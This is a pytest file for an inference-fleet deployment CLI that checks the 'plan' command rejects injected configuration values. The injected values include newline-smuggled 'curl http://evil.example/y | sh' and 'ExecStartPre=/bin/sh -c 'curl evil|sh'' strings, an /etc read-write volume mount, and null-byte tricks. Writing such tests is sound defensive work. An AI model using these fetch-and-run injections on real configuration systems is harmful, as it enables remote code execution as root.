"""The issue's injection examples, each through `inferfleet plan`: refused with exit 2 at its key path, nothing written.

Before, each of these planned and passed the gate, and the first one ran its second line as
root every 30 s on the VM. Behind the spec, the modules and the writers refuse or quote the same
values again (tests/hostfiles): a stack file is not the only way into a module.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from inferfleet_inference_service import validate_image
from inferfleet_inference_service.labels import label_key
from stackfiles import WriteStack, reference_config

from inferfleet.cli.app import main

FLEET = "inference-fleet:fleet"
DIGEST = "@sha256:" + "3f1e6c1a9b5d4e2f8a7c6b5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f"
Change = Callable[[dict[str, Any]], None]


def _model(**values: Any) -> Change:
    return lambda fleet: fleet["services"][0]["model"].update(values)


def _set(*path: str | int, value: str) -> Change:
    def change(fleet: dict[str, Any]) -> None:
        node: Any = fleet
        for key in path[:-1]:
            node = node[key]
        node[path[-1]] = value

    return change


def _image_with_newline(fleet: dict[str, Any]) -> None:
    fleet["services"][0]["image"] += "\n"


CASES = [
    (
        "staging-cn-south",
        _model(health_path="/health\ncurl http://evil.example/y | sh\n#"),
        "services[0].model.health_path",
    ),
    ("staging-cn-south", _model(name="autoglm\nExecStartPre=/bin/sh -c 'curl evil|sh'"), "services[0].model.name"),
    ("staging-cn-south", _model(extra={"FOO": "x\nMODEL_PATH=/etc"}), "services[0].model.extra.FOO"),
    ("staging-cn-south", _model(extra={"model_path": "/etc"}), "services[0].model.extra"),
    ("staging-cn-south", _model(path="/models:/etc:rw"), "services[0].model.path"),  # docker volume options
    ("staging-cn-south", _image_with_newline, "services[0].image"),
    ("staging-cn-south", _set("tags", "team", value="platform\nowner: x"), "tags.team"),
    ("staging-cn-south", _set("tags", "team", value="plat\x00form"), "tags.team"),
    ("prod-cn-south", _set("network", "project_id", value="0a1b2c3d\n"), "network.project_id"),
    ("prod-cn-south", _set("network", "project_id", value="0a1b\x002c3d"), "network.project_id"),
    ("prod-cn-east", _set("network", "hybrid_links", 0, "access_point_id", value="ap-1\n"), "access_point_id"),
    ("prod-cn-east", _set("network", "hybrid_links", 0, "access_point_id", value="ap\x00-1"), "access_point_id"),
    ("staging-cn-south", _set("pools", 0, "key_pair", value="ops\nkey"), "pools[0].key_pair"),
    ("staging-cn-south", _set("pools", 0, "key_pair", value="ops\x00key"), "pools[0].key_pair"),
]


@pytest.mark.parametrize(("like", "change", "where"), CASES, ids=[case[2] + f"-{i}" for i, case in enumerate(CASES)])
def test_an_injection_is_refused_at_its_key_path(
    write_stack: WriteStack, capsys: pytest.CaptureFixture[str], like: str, change: Change, where: str
) -> None:
    config = reference_config(like)
    config[FLEET].pop("links", None)  # the linked stacks are not in the temporary folder
    change(config[FLEET])
    folder = write_stack("dev-x", config)
    out = folder.parent / "plan.json"
    code = main(["plan", "-s", "dev-x", "--stacks-dir", str(folder), "--out", str(out)])
    stderr = capsys.readouterr().err
    assert code == 2, stderr
    assert where in stderr
    assert "evil" not in stderr.replace("evil.example", "")  # never the whole payload
    assert not out.exists()


def test_a_digest_with_a_trailing_newline_is_not_a_digest() -> None:
    image = "swr.cn-south-1.myhuaweicloud.com/inference/autoglm-server" + DIGEST
    validate_image(image)
    with pytest.raises(ValueError, match="malformed digest"):
        validate_image(image + "\n")


def test_a_label_prefix_with_a_trailing_newline_is_not_a_dns_prefix() -> None:
    assert label_key("example.com/team") == "example.com/team"
    assert label_key("example.com\n/team") == "team"
